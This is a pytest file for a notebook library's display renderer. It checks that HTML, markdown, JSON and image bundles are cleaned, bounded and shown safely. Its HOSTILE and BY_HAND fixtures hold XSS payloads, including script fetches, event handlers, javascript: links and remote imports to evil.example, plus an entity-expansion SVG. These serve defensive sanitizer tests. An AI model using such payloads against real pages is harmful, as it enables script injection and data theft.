"""Test how the forms show bundles: as far as they can be shown, without a script or a request, whatever is in them."""

from __future__ import annotations

import base64
import json
import re
import struct
import zlib
from collections.abc import Sequence
from html import unescape
from typing import Any
from xml.etree import ElementTree

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.hostile.oracles import html_attacks
from tests.markdown.markdown_documents import Page, visible
from tests.test_displays import SVG_BEGINNINGS
from vibe_notebook._forms.bounds import bounded_forms
from vibe_notebook._forms.colours import coloured_html
from vibe_notebook._forms.displays import display_html, display_markdown, display_text
from vibe_notebook._forms.html import transcript_html
from vibe_notebook._forms.markdown import is_safe, transcript_markdown
from vibe_notebook._forms.terminal_text import terminal_text
from vibe_notebook._forms.text import transcript_text
from vibe_notebook._limits import FORM_BYTES
from vibe_notebook._markdown.foreign_html import clean_foreign
from vibe_notebook.parts import ArtifactPart, TextPart, ToolPart
from vibe_notebook.transcript import Transcript

FORMS = [transcript_html, transcript_markdown, transcript_text]
SHOWS = [display_html, display_markdown, display_text]


def png(width: int, height: int, size: int = 0) -> str:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\0" * ((width + 7) // 8 + 1) * height)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    image = (
        b"\x89PNG\r\n\x1a\n" + head + chunk(b"tEXt", b"x" * size) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )
    return base64.b64encode(image).decode()


def grid(html: str) -> list[list[str]]:
    """Return the cells of a table, each in all of the places that it spans."""
    rows: list[list[str]] = []
    left: dict[tuple[int, int], str] = {}
    for number, row in enumerate(html.split("<tr")[1:]):
        line: list[str] = []
        for attributes, text in re.findall(r"<t[hd]([^>]*)>(.*?)</t[hd]>", row, re.DOTALL):
            while (number, len(line)) in left:
                line.append(left[number, len(line)])
            spans = {key: int(value) for key, value in re.findall(r'(\w+span)="(\d+)"', attributes)}
            for _ in range(spans.get("colspan", 1)):
                for below in range(1, spans.get("rowspan", 1)):
                    left[number + below, len(line)] = unescape(text)
                line.append(unescape(text))
        rows.append(line)
    return rows


def test_a_frame_of_several_levels_reads_back_by_column() -> None:
    rows = pd.MultiIndex.from_product([["a", "b"], [1, 2]], names=["k", "n"])
    columns = pd.MultiIndex.from_product([["x", "y"], ["p", "q"]])
    frame = pd.DataFrame([[4 * row + at for at in range(4)] for row in range(4)], index=rows, columns=columns)
    cells = grid(display_html({"text/html": frame.to_html(), "text/plain": str(frame)}))
    assert cells[0][2:] == ["x", "x", "y", "y"]
    assert cells[1][2:] == ["p", "q", "p", "q"]
    assert cells[3] == ["a", "1", "0", "1", "2", "3"]
    assert cells[4] == ["a", "2", "4", "5", "6", "7"]
    assert cells[6] == ["b", "2", "12", "13", "14", "15"]


def test_a_long_frame_scrolls_keeps_its_header_and_says_how_many_rows_it_shows() -> None:
    frame = pd.DataFrame({"a": range(4312), "b": 1.5})
    with pd.option_context("display.min_rows", 20):
        html = display_html({"text/html": frame._repr_html_()})
    assert "20 of 4,312 rows · 2 columns" in visible(html)
    assert "max-height" in html
    assert '<thead style="position:sticky;top:0' in html


@pytest.mark.parametrize(
    ("bundle", "shown"),
    [
        ({"text/html": "<table><td>cell</table>", "image/png": png(2, 2)}, "cell"),
        ({"text/plain": "a plot", "image/png": png(2, 2), "text/html": "<p>words"}, 'alt="a plot"'),
        ({"text/html": "<b>words</b>", "text/markdown": "other"}, "words"),
        ({"text/markdown": "**words**", "application/json": [1]}, "words"),
        ({"application/json": {"a": 1}, "text/plain": "plain"}, "1 key"),
        ({"text/plain": "plain"}, "plain"),
        ({"text/plain": ["one\n", "two"]}, "two"),
        ({"application/json": {"columns": ["a"], "rows": [[1]], "total": 7}}, "showing 1 of 7 rows"),
    ],
)
def test_the_richest_type_is_shown(bundle: dict[str, Any], shown: str) -> None:
    html = display_html(bundle)
    assert shown in visible(html) or shown in html


def test_a_picture_has_its_words_and_its_size() -> None:
    html = display_html({"image/png": png(40, 30), "text/plain": "<Figure>"}, name="plot.png")
    (image,) = [attributes for tag, attributes in Page(html).elements if tag == "img"]
    assert (image["alt"], image["width"], image["height"]) == ("plot.png", "40", "30")
    assert image["title"].startswith("image/png · 40 \N{MULTIPLICATION SIGN} 30 · ")
    assert display_text({"image/png": png(40, 30), "text/plain": "<Figure>"}).startswith(
        "[image/png · 40 \N{MULTIPLICATION SIGN} 30"
    )
    assert display_markdown({"image/png": png(40, 30)}).startswith("![picture](data:image/png;base64,")


@pytest.mark.parametrize(
    ("bundle", "words"),
    [
        ({"image/jpeg": png(2, 2)}, "[image/jpeg: its bytes are image/png]"),
        ({"image/png": "no image at all"}, "[image/png: its bytes are no such image]"),
        ({"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode()}, "no such image"),
        ({"image/png": png(2, 2)[:20]}, "[image/png: its bytes are no whole image]"),
        ({"image/png": 7}, "[image/png: its value is no text]"),
        ({"image/png": "A" * 50_000_000}, "[image/png: its bytes are no such image]"),
        ({"image/png": png(2, 2, 50_000_000)}, "[image/png: 50 MB, too large for this form]"),
        ({"application/x-thing": "x"}, "[application/x-thing: not shown]"),
        ({f"x/{n}": n for n in range(10_000)}, "and 9,995 more types: not shown]"),
        ({"image/svg+xml": "<svg"}, "[image/svg+xml"),
    ],
)
def test_a_value_that_is_not_shown_is_said_in_one_line(bundle: dict[str, Any], words: str) -> None:
    for show in SHOWS:
        shown = show(bundle)
        assert words.replace("[", "").replace("]", "") in unescape(re.sub(r"<[^>]*>", "", shown)).replace(
            "`", ""
        )
        assert len(shown) < 2_000


def test_text_of_50_megabytes_is_shown_by_its_start_and_its_end() -> None:
    for kind in ("text/plain", "text/html", "text/markdown"):
        for show in SHOWS:
            assert len(show({kind: "<p>word</p>\n" * 4_200_000})) < 1_500_000


def test_a_note_about_a_type_that_was_too_large_is_shown_beside_the_others() -> None:
    note = "[image/png, 2.3 MB: larger than display_limit]"
    html = display_html({"text/html": "<p>words</p>", "text/plain": f"words\n{note}"})
    assert "words" in visible(html)
    assert note in visible(html)


def test_a_drawing_is_shown_only_inside_an_image() -> None:
    drawing = '<?xml version="1.0"?><svg width="9"><script>alert(1)</script></svg>'
    html = display_html({"image/svg+xml": drawing})
    (image,) = [attributes for tag, attributes in Page(html).elements if tag == "img"]
    shown = base64.b64decode(image["src"].removeprefix("data:image/svg+xml;base64,")).decode()
    assert shown.startswith('<svg xmlns="http://www.w3.org/2000/svg" width="9">')
    assert "svg" not in dict(Page(html).elements)


@pytest.mark.parametrize("start", SVG_BEGINNINGS)
def test_a_drawing_is_an_image_whatever_stands_before_its_root(start: str) -> None:
    html = display_html({"image/svg+xml": f"{start}<svg width='9'><circle r='1'/></svg>"})
    (image,) = [attributes for tag, attributes in Page(html).elements if tag == "img"]
    shown = base64.b64decode(image["src"].removeprefix("data:image/svg+xml;base64,")).decode()
    assert shown.endswith("""<svg xmlns="http://www.w3.org/2000/svg" width='9'><circle r='1'/></svg>""")
    assert ElementTree.fromstring(shown).tag == "{http://www.w3.org/2000/svg}svg"  # noqa: S314 - our own text


def test_a_text_that_is_no_drawing_is_text_in_every_form() -> None:
    bundle = {"image/svg+xml": "<!-- <svg --><p>no drawing</p>"}
    for form in (display_html, display_markdown, display_text):
        assert "no drawing" in form(bundle)
        assert "it is no whole drawing" in form(bundle)


@pytest.mark.parametrize(
    "drawing",
    [
        "<svg><p></svg>",
        "<p>no drawing</p>",
        '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
        "",
    ],
)
def test_a_drawing_that_no_browser_shows_is_text(drawing: str) -> None:
    html = display_html({"image/svg+xml": drawing})
    assert "img" not in dict(Page(html).elements)
    assert drawing in unescape(visible(html))


HOSTILE = [
    "<script>fetch('https://evil.example')</script>after",
    "<img src=x onerror=alert(1)><img src='https://evil.example/x.png' alt='a picture'>",
    "<p style='background:url(https://evil.example);position:fixed'>words",
    "<style>@import 'https://evil.example'</style><link rel=stylesheet href=https://evil.example>",
    "<form action=https://evil.example><input name=q><button>send</button></form>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<svg><animate onbegin=alert(1)></svg><math href=javascript:alert(1)>m</math>",
    "<a href='javascript:alert(1)' ping=https://evil.example>link</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><tr><td rowspan=9999999999 onclick=x background=https://evil.example>cell",
    "<video src=https://evil.example poster=x></video><base href=https://evil.example>",
    "</div></details></div><div style='position:fixed'>outside",
    "<p>$\\require{html}\\href{javascript:alert(1)}{x}$ \\(x\\)",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_runs_and_requests_nothing(html: str) -> None:
    shown = display_html({"text/html": html})
    assert list(html_attacks(shown)) == []
    assert "evil.example" not in "".join(
        value for tag, attributes in Page(shown).elements for value in attributes.values() if tag != "a"
    )
    assert is_safe(display_markdown({"text/html": html}))


def test_removed_things_are_said_in_one_line() -> None:
    html = display_html({"text/html": "<p>words<script>x</script><img src=https://a.example/b.png>"})
    assert "[text/html: without its remote images, scripts]" in visible(html)


@pytest.mark.parametrize(
    "piece", ["<div>", "<b title={}><p>", "<table><tr><td>", "<a href=x><div>", "<b '", "<!--", "<"]
)
def test_the_work_for_html_grows_with_its_length(piece: str) -> None:
    html = "".join(piece.format(number) for number in range(20_000))
    assert len(clean_foreign(html).html) < 8 * len(html)  # without a bound of its depth: gigabytes, or hours


def test_deep_json_is_shown() -> None:
    deep: Any = 1
    for _ in range(400):
        deep = {"k": [deep]}
    for show in SHOWS:
        assert "k" in show({"application/json": deep})
    text = "[" * 1_000 + "]" * 1_000
    for form in FORMS:
        assert form(Transcript(parts=(ToolPart(tool_call_id="c", state="ok", output=text),)))


def test_json_folds_with_counts_and_a_bounded_number_of_lines() -> None:
    value = {
        "name": "x" * 80,
        "items": list(range(120)),
        "many": [{"a": n, "b": "y" * 70} for n in range(10_000)],
    }
    html = display_html({"application/json": value})
    words = visible(html)
    for count in ("3 keys", "120 items", "10,000 items", "more"):
        assert count in words
    assert html.count("<details") <= 201
    assert len(html) < 400_000


def test_numbers_in_a_tree_stay_as_they_were_written() -> None:
    output = '{"a": 1.0, "b": 1e400, "b": [1.50, "\\u00e9", "a long text that does not stand on one line of the form"]}'
    html = transcript_html(Transcript(parts=(ToolPart(tool_call_id="c", state="ok", output=output),)))
    for piece in ("1.0,", "1e400,", "1.50,", "\\u00e9"):
        assert piece in html


def test_a_terminals_colours_are_shown_and_other_sequences_vanish() -> None:
    html = coloured_html(
        "\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m\n10%\r\x1b[34m100%\x1b[0m\x1b[2J\x1b]0;t\x07 <b>"
    )
    assert "100%" in visible(html)
    assert '<span style="color:#e23c32">red' in html
    assert "font-weight:600" in html
    assert "\x1b" not in html
    assert "10%\n" not in html
    assert "<b>" not in html


@given(st.text(st.sampled_from("ab\x1b[]31;0m\r\n\t\b<&K\ufdd0é語"), max_size=60))
def test_coloured_text_is_the_terminals_text(text: str) -> None:
    plain = unescape(re.sub(r"</?span[^>]*>", "", coloured_html(f"\x1b[1m{text}")))
    assert plain == terminal_text(text.replace("\ufdd0", "\ufffd"))


KINDS = [
    "text/html",
    "text/plain",
    "text/markdown",
    "application/json",
    "image/png",
    "image/jpeg",
    "image/svg+xml",
    "a/b",
]
TEXTS = st.one_of(
    st.text(max_size=60),
    st.sampled_from(
        [*HOSTILE, png(2, 2), "<svg><script>alert(1)</script></svg>", "<table><tr><td>1</table>"]
    ),
    st.lists(
        st.sampled_from([*HOSTILE, "<table>", "<td>", "</p>", "<b>", "'", '"', ">", "<"]), max_size=5
    ).map("".join),
)
VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), TEXTS),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(TEXTS, inner, max_size=4)),
    max_leaves=8,
)
BUNDLES = st.dictionaries(st.one_of(st.sampled_from(KINDS), TEXTS), VALUES, max_size=5)


@settings(deadline=None)
@given(BUNDLES, VALUES)
def test_any_bundle_is_shown_in_every_form_without_an_attack(bundle: dict[str, Any], output: Any) -> None:
    parts = (
        ToolPart(tool_call_id="c", state="ok", output=output, args=output, display=bundle),
        ArtifactPart(artifact_id="a", display=bundle),
        # As no event and no constructor leaves it:
        ArtifactPart(artifact_id="b").model_copy(update={"display": bundle}),
    )
    for form in FORMS:
        assert "could not be made" not in form(Transcript(parts=parts))
    assert list(html_attacks(transcript_html(Transcript(parts=parts)))) == []
    assert is_safe(transcript_markdown(Transcript(parts=parts)))


def bundle_forms(*parts: Any, limit: int = FORM_BYTES) -> dict[str, str]:
    def render(shown: Sequence[tuple[int, Any]]) -> dict[str, str]:
        return {form.__name__: "\n\n".join(form(each) for _, each in shown) for form in FORMS}

    return bounded_forms([Transcript(parts=parts)], render, limit=limit)


def test_a_form_with_many_pictures_stays_within_its_bytes() -> None:
    calls = [
        ToolPart(
            tool_call_id=f"c{n}", state="ok", output=f"result {n}", display={"image/png": png(4, 4, 100_000)}
        )
        for n in range(60)
    ]
    made = bundle_forms(TextPart(text="first"), *calls, TextPart(part_id="1", text="last"))
    assert len(json.dumps(made, ensure_ascii=False).encode()) <= FORM_BYTES
    html = made["transcript_html"]
    assert html.index("first") < html.index("<img") < html.index("Left out of this form") < html.index("last")


def test_a_call_whose_picture_does_not_fit_stays_without_it() -> None:
    call = ToolPart(
        tool_call_id="c", state="ok", output="the result", display={"image/png": png(4, 4, 300_000)}
    )
    made = bundle_forms(TextPart(text="before"), call, TextPart(part_id="1", text="after"), limit=60_000)
    for form in made.values():
        assert "the result" in form
        assert "[image/png, 300 kB: too large for this form]" in unescape(form).replace("\\", "")


@pytest.mark.parametrize("form", FORMS)
def test_the_words_beside_a_display_stay(form: Any) -> None:
    call = ToolPart(
        tool_call_id="c",
        state="ok",
        output=[{"type": "text", "text": "twelve rows"}, {"$display": "image/png"}],
        display={"image/png": png(4, 4)},
    )
    assert "$display" not in form(Transcript(parts=(call,)))
    assert "twelve rows" in form(Transcript(parts=(call,)))
    assert "image/png" in form(Transcript(parts=(call,)))


def test_a_display_without_a_name_has_no_line_of_its_own() -> None:
    html = transcript_html(
        Transcript(parts=(ArtifactPart(artifact_id="a", display={"text/plain": "words"}),))
    )
    assert "words" in html
    assert "artifact</bdi>" not in html


class Broken(dict[str, Any]):
    """A mapping that fails at every use."""

    def __iter__(self) -> Any:
        raise RuntimeError("iter")

    def items(self) -> Any:
        raise RuntimeError("items")

    def __repr__(self) -> str:
        raise RuntimeError("repr")


def nested() -> Any:
    value: Any = 1
    for _ in range(20_000):
        value = [value]
    return value


BY_HAND: dict[str, dict[Any, Any]] = {
    "script": {
        "text/html": "<script>x()</script><b onclick='x()'>kept</b><iframe src='//evil.example'></iframe>"
    },
    "markdown": {"text/markdown": "kept <script>x()</script> ![](http://evil.example/x.png)"},
    "bytes": {"text/html": b"<b>kept</b>", "image/png": b"no image"},
    "surrogate": {"text/html": "\ud800<b>kept</b>", "text/plain": "kept \ud800"},
    "keys": {1: 2, None: 3, "text/plain": "kept"},
    "broken": {"application/json": Broken(a=1), "text/html": "<b>kept</b>", "text/plain": "kept"},
    "deep": {"application/json": ["kept", nested()], "text/plain": "kept"},
    "object": {"application/json": {"x": ["kept", object()]}, "text/plain": "kept"},
    "large": {"text/html": "<i>" * 4_000_000, "image/png": "iVBO" * 5_000_000, "text/plain": "kept"},
    "long": {"text/plain": "kept" + "x" * 9_000_000},
}


@pytest.mark.parametrize("name", BY_HAND)
def test_a_display_made_by_hand_is_cleaned_and_bounded_in_every_form(name: str) -> None:
    bundle = BY_HAND[name]
    transcript = Transcript(
        parts=(
            ToolPart(tool_call_id="c", tool_name="f", state="ok", output=1, display=bundle),
            ArtifactPart(artifact_id="a", display=bundle),
        )
    )
    dumped = transcript.model_dump_json()
    assert len(dumped) < 2_100_000
    assert Transcript.model_validate_json(dumped) == transcript
    for form in FORMS:
        text = form(transcript)
        assert len(text) < 400_000
        assert text.count("kept") >= 2, text
        assert "could not be made" not in text
        assert "repr raised" not in text or name == "broken"
    assert list(html_attacks(transcript_html(transcript))) == []
    assert is_safe(transcript_markdown(transcript))
    if name == "large":
        for form in FORMS:
            for kind, count in (("text/html", "12 MB"), ("image/png", "20 MB")):
                assert f"[{kind}, {count}: larger than display_limit]" in unescape(form(transcript)).replace(
                    "\\", ""
                )


@pytest.mark.parametrize(
    "output",
    [
        "<a.B object at 0x7f01>",
        "<PIL.Image.Image image mode=L size=9x9 at 0x7F>",
        "<IPython.core.display.HTML object>",
    ],
)
@pytest.mark.parametrize("form", FORMS)
def test_the_repr_of_an_object_that_says_nothing_is_left_out_beside_its_display(
    form: Any, output: str
) -> None:
    call = ToolPart(tool_call_id="c", state="ok", output=output, display={"text/html": "<b>shown</b>"})
    text = unescape(form(Transcript(parts=(call,))))
    assert "shown" in text
    assert output[1:9] not in text


@pytest.mark.parametrize(
    ("kind", "data", "words"),
    [
        ("image/png", base64.b64encode(b"<script>").decode(), "its bytes are no such image"),
        ("image/jpeg", png(2, 2), "its bytes are image/png"),
        ("image/png", "no base64!", "its bytes are no such image"),
        ("image/png", png(2, 2), ""),
        ("text/plain", "AAAA", ""),
    ],
)
def test_a_file_that_is_no_image_of_its_type_is_named_in_every_form(kind: str, data: str, words: str) -> None:
    made = Transcript(parts=(ArtifactPart(artifact_id="a", name="a.png", media_type=kind, data=data),))
    for form in (made.to_html(), made.to_text(), made.to_markdown()):
        assert (words or "its bytes") in form if words else "its bytes" not in form
    assert ("<img" in made.to_html()) == (kind == "image/png" and not words)
